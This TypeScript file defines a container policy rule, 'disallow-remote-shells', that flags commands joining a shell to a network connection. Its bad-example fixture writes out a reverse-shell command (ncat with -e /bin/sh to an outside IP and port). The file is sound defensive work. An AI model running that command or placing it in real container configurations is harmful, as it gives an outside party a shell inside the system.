import { commandsOf, container, deedsOf, definePolicy } from "../../core/policy";

const running = (script: string) => container({ command: ["/bin/sh", "-c"], args: [script] });

export default definePolicy({
  name: "disallow-remote-shells",
  displayName: "Containers hand no shell to the network",
  description:
    "A command that joins a shell to a network connection is a back door: whoever is at the other end works inside the zone.",
  severity: "critical",
  enforcementLevel: "mandatory",
  controls: ["nist-800-190:4.4.4"],
  requirements: [54],
  remediationSteps: "Remove the command, and find out how it came there.",
  appliesTo: "Container",
  check({ node, report }) {
    for (const { what, path } of deedsOf(node, "remote shell"))
      report(`opens a shell to the network (${what})`, path);
    for (const { path, missing } of commandsOf(node).unknowns) report.unknown(path, missing);
  },
  good: () => ({
    "a harmless script": running("until nc -z db 5432; do sleep 1; done"),
    "the image's own command": container(),
  }),
  bad: () => ({
    "in a shell": running("ncat --ssl 203.0.113.9 4444 -e /bin/sh"),
  }),
});
